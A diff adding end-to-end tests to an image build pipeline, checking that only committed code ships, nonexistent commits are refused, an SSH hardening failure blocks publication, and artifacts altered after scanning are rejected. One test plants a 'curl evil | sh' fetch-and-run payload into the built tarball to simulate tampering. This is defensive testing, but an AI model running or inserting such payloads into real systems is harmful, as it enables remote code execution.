@@ -3,28 +3,49 @@ through the real SDK, and the real Prefect engine."""
 
 from __future__ import annotations
 
+import gzip
+import io
 import json
 import os
 import subprocess
 import sys
+import tarfile
 from pathlib import Path
 
 import pytest
 from azure.core.exceptions import ResourceNotFoundError
+from prefect import flow
 
+from blocks import load_scan_policy
 from flows.image_pipeline import image_pipeline
+from switchyard.core.config import FaultProfile
 from switchyard.core.fleet import Fleet
 from switchyard.core.image_metadata import ImageMetadata
 from switchyard.core.outcomes import GateFailed
 from switchyard.core.versions import ImageVersion, VersionError
+from switchyard.images.packer import LOCAL_TEMPLATE
 from switchyard.images.packer_output import PackerTemplateError
+from switchyard.images.scan import ArtifactChanged
+from switchyard.images.source import AppSourceError
 from switchyard_emulator.testing import EmulatorHandle
+from tasks.images import (
+    app_source,
+    build_image,
+    gate,
+    publish,
+    resolve_version,
+    scan_image,
+    validate_inputs,
+    verify_artifact,
+)
+from tasks.provision import load_service_context
+from tests.e2e.repo_commits import labelled_commit
 
 pytestmark = pytest.mark.e2e
 
 GALLERY_GROUP = "switchyard-images"
 GALLERY = "switchyard_gallery"
-COMMIT = "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567"
+COMMIT = labelled_commit("image-pipeline")
 
 
 def gallery_versions(emulator: EmulatorHandle, service: str) -> list[str]:
@@ -147,3 +168,110 @@ def test_the_cli_exits_non_zero_and_names_the_findings_when_the_gate_fails(
     assert result.returncode == 3  # refused before any change: nothing was published
     assert "refused, nothing was changed" in result.stderr
     assert "PYSEC-2018-28" in result.stderr  # requests 2.19.1, unknown severity counts as HIGH by default
+
+
+def git(repository: Path, *args: str) -> str:
+    identity = ["-c", "user.name=switchyard tests", "-c", "user.email=tests@switchyard.invalid"]
+    command = ["git", "-C", str(repository), *identity, *args]
+    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=30).stdout.strip()
+
+
+def artifact_of(state_dir: Path, service: str, gallery_version: str) -> Path:
+    (artifact,) = (state_dir / "builds" / service).glob(f"*/{service}-{gallery_version}.tar.gz")
+    return artifact
+
+
+def member(artifact: Path, name: str) -> bytes:
+    with tarfile.open(artifact, "r:gz") as archive:
+        stream = archive.extractfile(name)
+        assert stream is not None
+        return stream.read()
+
+
+def test_a_build_ships_the_commit_not_the_uncommitted_changes_beside_it(fleet: Fleet, state_dir: Path) -> None:
+    app = Path(fleet.services["workdir"].app_dir)
+    repository = app.parents[1]
+    server = app / "app" / "server.py"
+    committed_server = server.read_bytes()
+    committed = git(repository, "rev-parse", "HEAD")
+    server.write_bytes(committed_server + b"\nraise SystemExit('an uncommitted edit must never ship')\n")
+    (app / "app" / "debug_backdoor.py").write_text("OPEN = True\n")  # untracked
+    try:
+        published = image_pipeline(service="workdir", app_version="1.0.0")  # no commit: HEAD
+    finally:
+        git(repository, "checkout", "--", ".")
+        (app / "app" / "debug_backdoor.py").unlink()
+
+    assert published.git_commit == committed
+    artifact = artifact_of(state_dir, "workdir", published.gallery_version)
+    assert member(artifact, "app/server.py") == committed_server
+    with tarfile.open(artifact, "r:gz") as archive:
+        assert "app/debug_backdoor.py" not in archive.getnames()
+    assert json.loads(member(artifact, "manifest.json"))["git_commit"] == committed
+
+
+def test_a_commit_that_does_not_exist_is_refused_before_anything_is_built(
+    fleet: Fleet, emulator: EmulatorHandle, state_dir: Path
+) -> None:
+    missing = "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567"
+    with pytest.raises(AppSourceError, match=f"commit {missing} does not exist"):
+        image_pipeline(service="workdir", app_version="9.0.0", git_commit=missing)
+    assert not any((state_dir / "builds" / "workdir").glob("9*"))
+
+
+def test_a_failed_required_compliance_control_never_reaches_the_gallery(fleet: Fleet, emulator: EmulatorHandle) -> None:
+    # cloud-init's PasswordAuthentication yes, baked in on purpose: hardening reports SWY-SSH-2 failed.
+    with pytest.raises(GateFailed) as failure:
+        image_pipeline(
+            service="hardened",
+            app_version="1.0.0",
+            git_commit=COMMIT,
+            fault_profile=FaultProfile(ssh_password_auth=True),
+        )
+    message = str(failure.value)
+    assert "control SWY-SSH-2 (SSH password authentication is disabled)" in message
+    assert "50-cloud-init.conf" in message
+    assert gallery_versions(emulator, "hardened") == []
+
+    # The same app without the fault passes the same gate: it is the control that stopped it.
+    published = image_pipeline(service="hardened", app_version="1.0.1", git_commit=COMMIT)
+    assert gallery_versions(emulator, "hardened") == [published.gallery_version]
+
+
+def replace_member(artifact: Path, name: str, content: bytes) -> None:
+    """What an attacker with the worker's disk would do: swap one file inside the image."""
+    members: list[tuple[tarfile.TarInfo, bytes | None]] = []
+    with tarfile.open(artifact, "r:gz") as archive:
+        for info in archive:
+            stream = archive.extractfile(info) if info.isfile() else None
+            members.append((info, stream.read() if stream is not None else None))
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
+        for info, data in members:
+            if info.name == name and data is not None:
+                data = content
+                info.size = len(content)
+            archive.addfile(info, io.BytesIO(data) if data is not None else None)
+    artifact.write_bytes(gzip.compress(buffer.getvalue(), mtime=0))
+
+
+def test_an_artifact_changed_between_scan_and_publish_is_refused(fleet: Fleet, emulator: EmulatorHandle) -> None:
+    @flow
+    def build_then_tamper() -> None:
+        """The pipeline's tasks in its order, with the artifact changed after the gate."""
+        context = load_service_context("tampered", "staging")
+        scanning = load_scan_policy("default")
+        source = app_source(context, COMMIT)
+        plan = resolve_version(context, "1.0.0", "debian-12", source.commit, FaultProfile(), False)
+        validate_inputs(context, plan, LOCAL_TEMPLATE, source)
+        image = build_image(plan, LOCAL_TEMPLATE, 300.0, source)
+        scan = scan_image(image, scanning)
+        result = gate(plan, scan, scanning, None)
+        assert result.passed, result.to_markdown()
+        replace_member(image.artifact_path, "app/server.py", b"import os\nos.system('curl evil | sh')\n")
+        verify_artifact(image, scan)
+        publish(context, plan, image, scan, result)  # never reached
+
+    with pytest.raises(ArtifactChanged, match=r"changed after it was scanned: sha256 [0-9a-f]{64} now"):
+        build_then_tamper()
+    assert gallery_versions(emulator, "tampered") == []
